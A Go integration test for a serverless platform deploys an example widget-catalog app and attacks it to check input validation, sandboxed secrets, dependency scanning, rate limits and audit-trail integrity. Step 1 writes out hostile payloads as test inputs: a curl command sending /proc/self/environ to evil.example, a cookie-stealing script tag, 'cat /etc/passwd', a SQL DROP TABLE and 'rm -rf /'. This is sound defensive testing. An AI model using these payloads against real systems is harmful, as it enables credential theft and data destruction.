package node

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/moatfn/moat/examples/widgets/mailer"
	"github.com/moatfn/moat/internal/audit"
	"github.com/moatfn/moat/internal/bundle"
	"github.com/moatfn/moat/internal/manifest"
	"github.com/moatfn/moat/internal/testwasm"
)

// The widget catalog of examples/widgets, run on a real node with the mail
// stand-in, then attacked one step of the story at a time (issue 9).

func widgetsDir(parts ...string) string {
	_, file, _, _ := runtime.Caller(0)
	return filepath.Join(append([]string{filepath.Dir(file), "..", "..", "examples", "widgets"}, parts...)...)
}

// widgetFolder copies examples/widgets/NAME (its manifest edited by edit)
// with the module built from src (a folder of Go sources) into a temporary
// function folder.
func widgetFolder(t *testing.T, name, src string, edit func(string) string) string {
	t.Helper()
	from := widgetsDir(name)
	dir := t.TempDir()
	y, err := os.ReadFile(filepath.Join(from, manifest.FileName))
	if err != nil {
		t.Fatal(err)
	}
	text := string(y)
	if edit != nil {
		text = edit(text)
	}
	os.WriteFile(filepath.Join(dir, manifest.FileName), []byte(text), 0o644)
	m, err := manifest.Parse([]byte(text))
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range m.Files() {
		if p == m.Module {
			continue
		}
		b, err := os.ReadFile(filepath.Join(from, p))
		if err != nil {
			t.Fatal(err)
		}
		os.WriteFile(filepath.Join(dir, p), b, 0o644)
	}
	wasm, err := os.ReadFile(testwasm.BuildDir(t, src))
	if err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(dir, m.Module), wasm, 0o644)
	return dir
}

func post(t *testing.T, url string, body any) (*http.Response, string) {
	t.Helper()
	b, _ := json.Marshal(body)
	resp, err := http.Post(url, "application/json", bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	rb, _ := io.ReadAll(resp.Body)
	return resp, string(rb)
}

type form struct {
	Name        string              `json:"name"`
	Email       string              `json:"email"`
	Preferences []map[string]string `json:"preferences"`
}

// widgets is the catalog app running on a node with its mail stand-in.
type widgets struct {
	n                 *testNode
	mail              *mailer.Server
	data, key         string
	toMailer, relaxed func(string) string
}

const widgetsMailerKey = "mk-live-widgets-93f1c0de"

// startWidgets deploys examples/widgets on a node, with the stand-in, the
// secret, the Go advisories and some stock.
func startWidgets(t *testing.T) *widgets {
	t.Helper()
	ctx := context.Background()
	data := t.TempDir()
	mail, err := mailer.Start("127.0.0.1:0", "127.0.0.1:0", data, widgetsMailerKey)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { mail.Close() })
	apiHost := strings.TrimPrefix(mail.API, "https://")
	w := &widgets{mail: mail, data: data, key: widgetsMailerKey}
	w.toMailer = func(y string) string { return strings.ReplaceAll(y, "127.0.0.1:8443", apiHost) }
	// Until the flood, one test client plays many people: its per-source
	// rate is raised so that each step meets the check it is about.
	w.relaxed = func(y string) string {
		return strings.Replace(w.toMailer(y), "rate_per_caller: 2/s", "rate_per_caller: 1000/s", 1)
	}
	n := startNodeConfig(t, Config{DataDir: data, ConsoleListen: "127.0.0.1:0", EgressCAFile: mail.CAFile, EgressAllow: []netip.Prefix{netip.MustParsePrefix("127.0.0.1/32")}})
	w.n = n
	if err := n.client.ImportVulnDB(ctx, osvFile(t, "Go/all.zip"), nil); err != nil {
		t.Fatal(err)
	}
	setSecret(t, n, "MAILER_KEY", widgetsMailerKey, "send-catalog")
	for _, f := range []struct {
		name string
		edit func(string) string
	}{{"page", nil}, {"catalog-pdf", nil}, {"inventory-admin", nil}, {"send-catalog", w.toMailer}, {"contact", w.relaxed}} {
		deployDir(t, n, widgetFolder(t, f.name, widgetsDir(f.name), f.edit))
	}
	admin, _ := os.ReadFile(filepath.Join(data, "admin.token"))
	for item, stock := range map[string]string{"blue/big": `{"stock":5,"price":"12.50 EUR"}`, "green/small": `{"stock":3,"price":"4.20 EUR"}`, "red/tiny": `{"stock":0,"price":"1.10 EUR"}`} {
		req, _ := http.NewRequest(http.MethodPut, n.URL()+"/fn/inventory-admin/"+item, strings.NewReader(stock))
		req.Header.Set("Authorization", "Bearer "+strings.TrimSpace(string(admin)))
		resp, err := http.DefaultClient.Do(req)
		if err != nil || resp.StatusCode != http.StatusNoContent {
			t.Fatalf("stock %s: %v %v", item, resp, err)
		}
	}
	return w
}

func TestWidgetCatalogUnderAttack(t *testing.T) {
	ctx := context.Background()
	w := startWidgets(t)
	n, mail, mailerKey, toMailer, relaxed := w.n, w.mail, w.key, w.toMailer, w.relaxed
	var err error
	// Staff only: nobody else sets stock.
	if resp, _ := post(t, n.URL()+"/fn/inventory-admin/blue/big", map[string]int{"stock": 999}); resp.StatusCode != http.StatusUnauthorized {
		t.Fatalf("inventory-admin without a key: %d", resp.StatusCode)
	}

	// The story as it should go: Carole asks, gets a real PDF by mail.
	if resp, body := invoke(t, n, http.MethodGet, "page", "/", nil); resp.StatusCode != 200 || !strings.Contains(body, "<form") {
		t.Fatalf("the page: %d", resp.StatusCode)
	}
	carole := form{Name: "Carole", Email: "carole@example.com", Preferences: []map[string]string{
		{"colour": "blue", "size": "big"}, {"colour": "green", "size": "small"}, {"colour": "red", "size": "tiny"}}}
	resp, body := post(t, n.URL()+"/fn/contact", carole)
	if resp.StatusCode != http.StatusAccepted || !strings.Contains(body, `"status":"queued"`) {
		t.Fatalf("contact: %d %s", resp.StatusCode, body)
	}
	msgs := mailsTo(t, mail, "carole@example.com", 1)
	if len(msgs) != 1 || msgs[0].To != "carole@example.com" || !strings.Contains(msgs[0].Text, "Dear Carole") ||
		!bytes.HasPrefix(msgs[0].Attachment, []byte("%PDF-")) || !bytes.Contains(msgs[0].Attachment, []byte("interest in big blue and small green widgets")) ||
		bytes.Contains(msgs[0].Attachment, []byte("tiny red")) {
		t.Fatalf("mail: %d messages, first to %q, text %q, %d bytes attached", len(msgs), msgs[0].To, msgs[0].Text, len(msgs[0].Attachment))
	}

	// The mail API goes down: the request is still taken (202), the event
	// retried, then kept as a dead letter; once the API is back, a replay
	// sends the catalog, once. (send-catalog with quick retries.)
	deployDir(t, n, widgetFolder(t, "send-catalog", widgetsDir("send-catalog"), func(y string) string {
		return strings.Replace(toMailer(y), "max_deliver: 4, backoff: [2s, 10s, 30s]", "max_deliver: 2, backoff: [1s]", 1)
	}))
	mail.SetDown(true)
	dave := form{Name: "Dave", Email: "dave@example.com", Preferences: carole.Preferences}
	if resp, body := post(t, n.URL()+"/fn/contact", dave); resp.StatusCode != http.StatusAccepted {
		t.Fatalf("contact while the mail API is down: %d %s", resp.StatusCode, body)
	}
	letter := lettersOf(t, n, "send-catalog", 1).Letters[0]
	if letter.Reason != "failed" || letter.Status != http.StatusServiceUnavailable || letter.Attempts != 2 || letter.Publisher != "fn:contact" {
		t.Fatalf("dead letter %+v", letter)
	}
	if got := mailsTo(t, mail, "dave@example.com", 0); len(got) != 0 {
		t.Fatalf("mail sent while the API was down: %+v", got)
	}
	mail.SetDown(false)
	if _, err := n.client.Replay(ctx, "send-catalog", nil, true); err != nil {
		t.Fatal(err)
	}
	if got := mailsTo(t, mail, "dave@example.com", 1); len(got) != 1 || !strings.Contains(got[0].Text, "Dear Dave") {
		t.Fatalf("after the replay: %+v", got)
	}

	// 1. Command, SQL and script payloads in email and name: 400, no
	// instance started, a recorded refusal with the source address.
	started := n.InstancesStarted()
	for _, bad := range []form{
		{Name: "Carole", Email: "carole@example.com; cat /etc/passwd", Preferences: carole.Preferences},
		{Name: "Carole", Email: "$(curl -d @/proc/self/environ evil.example)@x.com", Preferences: carole.Preferences},
		{Name: "Robert'); DROP TABLE contacts;--", Email: "bobby@example.com", Preferences: carole.Preferences},
		{Name: "<script>fetch('//evil.example/'+document.cookie)</script>", Email: "x@example.com", Preferences: carole.Preferences},
		{Name: "Carole", Email: "carole@example.com", Preferences: []map[string]string{{"colour": "blue; rm -rf /", "size": "big"}}},
	} {
		if resp, body := post(t, n.URL()+"/fn/contact", bad); resp.StatusCode != http.StatusBadRequest {
			t.Errorf("payload %+v: %d %s", bad, resp.StatusCode, body)
		}
	}
	if got := n.InstancesStarted(); got != started {
		t.Errorf("hostile input started %d instances", got-started)
	}
	if recs := records(t, n, url.Values{"action": {"refuse"}, "fn": {"contact"}}, 5); len(recs) < 5 || recs[0].Reason != "input" || !strings.HasPrefix(recs[0].Source, "127.0.0.1:") {
		t.Errorf("input refusals in the trail: %+v", recs)
	}

	// 2. A build of contact that dumps its environment finds no secret, and
	// cannot fetch one or reach the mail API: the public function holds
	// none of what send-catalog needs. (The caps guest, deployed as contact
	// with contact's own manifest.)
	_, here, _, _ := runtime.Caller(0)
	evil := filepath.Join(filepath.Dir(here), "..", "testwasm", "testdata", "caps")
	deployDir(t, n, widgetFolder(t, "contact", evil, relaxed))
	call := func(path string) capsResult {
		t.Helper()
		resp, body := post(t, n.URL()+"/fn/contact"+path, carole)
		var r capsResult
		if resp.StatusCode != 200 || json.Unmarshal([]byte(body), &r) != nil {
			t.Fatalf("evil contact %s: %d %s", path, resp.StatusCode, body)
		}
		return r
	}
	for _, kv := range call("/env").Env {
		if strings.Contains(kv, mailerKey) || strings.HasPrefix(kv, "MAILER_KEY=") {
			t.Errorf("the environment holds the secret: %q", kv)
		}
	}
	for _, name := range []string{"MAILER_KEY", "DB_PASSWORD"} {
		if r := call("/secret?name=" + name); r.Code != codeDenied || r.Value != "" {
			t.Errorf("contact fetching the secret %s: %+v", name, r)
		}
	}
	if r := call("/http?url=" + url.QueryEscape(mail.API+"/v3/send")); r.Code != codeDenied {
		t.Errorf("contact reaching the mail API: %+v", r)
	}
	if r := call("/publish?subject=orders.created&body=%7B%7D"); r.Code != codeDenied {
		t.Errorf("contact publishing beyond its grant: %+v", r)
	}

	// 3. A build of contact that reads the contacts it may only add to is
	// refused, and the refusal recorded.
	if r := call("/kv/get?b=contacts&k=carole@example.com"); r.Code != codeDenied {
		t.Errorf("reading contacts: %+v", r)
	}
	if r := call("/kv/keys?b=contacts"); r.Code != codeDenied {
		t.Errorf("listing contacts: %+v", r)
	}
	if recs := records(t, n, url.Values{"action": {"deny"}, "fn": {"contact"}}, 3); len(recs) < 3 {
		t.Errorf("deny records: %+v", recs)
	} else if r := recs[0]; r.Capability != "kv.keys" || r.Resource != "contacts" || r.InvocationID == "" || r.Source == "" {
		t.Errorf("the newest deny record: %+v", r)
	}

	// 4. A catalog-pdf build that depends on a package with a known
	// advisory is blocked at deploy.
	_, err = n.client.Deploy(ctx, mustBundle(t, widgetFolder(t, "catalog-pdf", filepath.Join(filepath.Dir(here), "..", "inventory", "testdata", "vulnerable"), nil)))
	if err == nil || !strings.Contains(err.Error(), "golang.org/x/text v0.3.5") || !strings.Contains(err.Error(), "GO-2022-1059") {
		t.Fatalf("vulnerable catalog-pdf: %v", err)
	}

	// 5. A flood of fake requests is shed per source and capped by the
	// budget, while the page keeps answering: the real contact, its real
	// per-source rate, a budget of 6 a day.
	deployDir(t, n, widgetFolder(t, "contact", widgetsDir("contact"), func(y string) string {
		return strings.Replace(toMailer(y), "invocations: 5000/day", "invocations: 6/day", 1)
	}))
	status := map[int]int{}
	for i := 0; i < 200; i++ {
		resp, _ := post(t, n.URL()+"/fn/contact", form{Name: "Fake", Email: fmt.Sprintf("fake%d@example.com", i), Preferences: carole.Preferences})
		status[resp.StatusCode]++
		if i%50 == 0 {
			if resp, _ := invoke(t, n, http.MethodGet, "page", "/", nil); resp.StatusCode != 200 {
				t.Errorf("the page during the flood: %d", resp.StatusCode)
			}
		}
		if i == 100 {
			time.Sleep(1100 * time.Millisecond) // the per-source bucket refills: the budget is next
		}
	}
	if status[http.StatusAccepted] > 6 || status[http.StatusTooManyRequests] < 190 {
		t.Errorf("flood outcome %v: want at most 6 admitted (the day's budget, Carole's included) and the rest 429", status)
	}
	refusals := map[string]int{}
	for _, r := range records(t, n, url.Values{"action": {"refuse"}, "fn": {"contact"}, "limit": {"1000"}}, 190) {
		refusals[r.Reason]++
	}
	if refusals["caller_rate"] == 0 || refusals["budget"] == 0 {
		t.Errorf("refusals by reason %v: want caller_rate and budget", refusals)
	}

	// 6. The trail answers who, what, when and from where for each step,
	// verifies, and fails to once the stored trail is altered.
	for _, q := range []url.Values{
		{"action": {"secret.set"}},
		{"action": {"deploy"}, "outcome": {"failed"}},
		{"action": {"invoke"}, "fn": {"catalog-pdf"}, "actor": {"fn:send-catalog;fn:contact"}}, // on behalf of contact, which published the event
		{"action": {"invoke"}, "fn": {"send-catalog"}, "actor": {"fn:contact"}},
		{"action": {"dlq.replay"}},
	} {
		recs := records(t, n, q, 1)
		if len(recs) == 0 || recs[0].Time.IsZero() || recs[0].Source == "" && recs[0].Actor == "" {
			t.Errorf("no record for %v: %+v", q, recs)
		}
	}
	if recs := records(t, n, url.Values{"action": {"invoke"}, "fn": {"send-catalog"}}, 1); recs[0].Trigger != "queue" && recs[0].Trigger != "replay" {
		t.Errorf("send-catalog's runs are recorded with their trigger: %+v", recs[0])
	}
	rep, err := n.client.AuditVerify(ctx)
	if err != nil || !rep.OK() {
		t.Fatalf("verify: %+v %v", rep, err)
	}
	st, err := n.store.JS.Stream(ctx, audit.Stream)
	if err != nil {
		t.Fatal(err)
	}
	if err := st.DeleteMsg(ctx, 3); err != nil {
		t.Fatal(err)
	}
	if rep, err := n.client.AuditVerify(ctx); err != nil || rep.OK() {
		t.Fatalf("verify after a stored batch was removed: %+v %v", rep, err)
	}
}

// mailsTo waits until the stand-in holds want mails to addr (a little
// longer when want is 0, to see that none comes) and returns them.
func mailsTo(t *testing.T, mail *mailer.Server, addr string, want int) []mailer.Message {
	t.Helper()
	deadline := time.Now().Add(20 * time.Second)
	if want == 0 {
		deadline = time.Now().Add(500 * time.Millisecond)
	}
	for {
		var got []mailer.Message
		for _, m := range mail.Messages() {
			if m.To == addr {
				got = append(got, m)
			}
		}
		if want > 0 && len(got) >= want || time.Now().After(deadline) {
			return got
		}
		time.Sleep(50 * time.Millisecond)
	}
}

func mustBundle(t *testing.T, dir string) *bundle.Bundle {
	t.Helper()
	b, err := bundle.Read(dir)
	if err != nil {
		t.Fatal(err)
	}
	return b
}
